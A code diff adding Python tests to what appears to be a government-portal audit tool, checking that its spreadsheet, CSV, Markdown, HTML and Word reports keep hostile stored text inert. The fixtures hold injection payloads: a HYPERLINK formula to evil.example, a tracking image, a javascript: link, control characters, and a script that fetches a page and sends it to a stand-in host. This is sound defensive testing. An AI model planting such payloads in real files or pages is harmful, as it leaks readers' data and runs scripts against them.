@@ -112,3 +112,67 @@ def test_a_column_over_its_budget_is_judged_on_what_was_read_and_a_portal_over_i
     finally:
         release.set()
         server.shutdown()
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak","点击")', "![](http://evil.example/track.png)",
+           "[点这里](javascript:alert(1))", "标题\x1b[31m\x01带控制字符", "<script>alert(1)</script>通知"]
+
+
+def _hostile_warehouse(url: str):
+    """A warehouse holding hostile text as older runs might have stored it (records made by
+    hand, not through a crawl that cleans them), two portals of two units."""
+    from portal_audit.records import ColumnCrawl, Finding, Item, Link, LinkCheck, PageFetch
+
+    engine = make_engine(url)
+    run_id = start_run(engine, AS_OF, "national-2019@1")
+    for pid, unit in (("a", "甲单位"), ("b", "乙单位")):
+        portal = Portal(id=pid, name=f"门户{pid}", base_url=f"http://{pid}.gov.cn/", columns=[
+            Column(id="news", path=["工作动态"], url="/news/", frequency="及时更新", responsible=unit)])
+        body = b"<html><body><script>fetch('../x.html').then(r=>r.text()).then(t=>new Image().src='http://evil/?'+t)</script></body></html>"
+        crawls = [ColumnCrawl(pid, "news", f"http://{pid}.gov.cn/news/", "ok",
+                              tuple(Item(t, f"http://{pid}.gov.cn/news/{i}.html", AS_OF - timedelta(days=i + 1))
+                                    for i, t in enumerate(HOSTILE)),
+                              (PageFetch.of_body(f"http://{pid}.gov.cn/news/", 200, body, 5.0),))]
+        link = Link(f"http://{pid}.gov.cn/gone.html", f"http://{pid}.gov.cn/news/", HOSTILE[0], "a")
+        result = validate(crawls, [portal], load_ruleset(), AS_OF)
+        load_portal(engine, run_id, portal, crawls, result, None, (), (LinkCheck(link, "站内", "网页", False, "broken", 404),),
+                    (Finding("wording", "phrase", "serious", HOSTILE[1], HOSTILE[2], HOSTILE[0], f"http://{pid}.gov.cn/news/", "news"),))
+    finish_run(engine, run_id, ok=True)
+    return engine, run_id
+
+
+def test_reports_keep_hostile_text_inert(tmp_path):
+    """Issue 27: no formula in a spreadsheet, no control character breaking XLSX or Word, no
+    live Markdown or HTML, and evidence pages that run no script next to the report."""
+    import openpyxl
+
+    from portal_audit.report import write_report
+
+    engine, run_id = _hostile_warehouse(f"sqlite:///{tmp_path / 'audit.db'}")
+    for fmt in ("md", "csv", "xlsx", "html", "docx"):
+        write_report(engine, run_id, fmt, tmp_path / f"report.{fmt}")  # none fails on a control character
+    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
+    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [v for v in cells if v.startswith(("=", "+", "-", "@"))]
+    assert any(v.startswith("'=HYPERLINK") for v in cells)
+    assert not any("\x1b" in v or "\x01" in v for v in cells)
+    import csv
+
+    with open(tmp_path / "report.csv", encoding="utf-8-sig") as f:
+        assert not [v for row in csv.reader(f) for v in row if v.startswith(("=", "+", "@"))]
+    md = (tmp_path / "report.md").read_text(encoding="utf-8")
+    assert "![](" not in md and "[点这里](javascript:" not in md and "<script>" not in md
+    assert "!\\[\\](http://evil.example/track.png)" in md and "\\[点这里\\](javascript:" in md  # shown, inert
+    evidence = next((tmp_path / "report_evidence").glob("*.html")).read_text(encoding="utf-8")
+    assert "<iframe sandbox srcdoc=" in evidence and "default-src 'none'" in evidence
+    assert "<script>fetch" not in evidence  # the page is inert text inside the sandboxed frame
+
+
+def test_a_unit_filter_shows_only_that_units_portals(tmp_path):
+    from portal_audit.report import Filters, load_report
+
+    engine, run_id = _hostile_warehouse(f"sqlite:///{tmp_path / 'audit.db'}")
+    mine = load_report(engine, run_id, Filters(units=["甲单位"]))
+    assert set(mine.links["portal_id"]) == {"a"} and set(mine.findings["portal_id"]) == {"a"}
+    nobody = load_report(engine, run_id, Filters(units=["没有这个单位"]))
+    assert nobody.links.empty and nobody.findings.empty and nobody.checks.empty
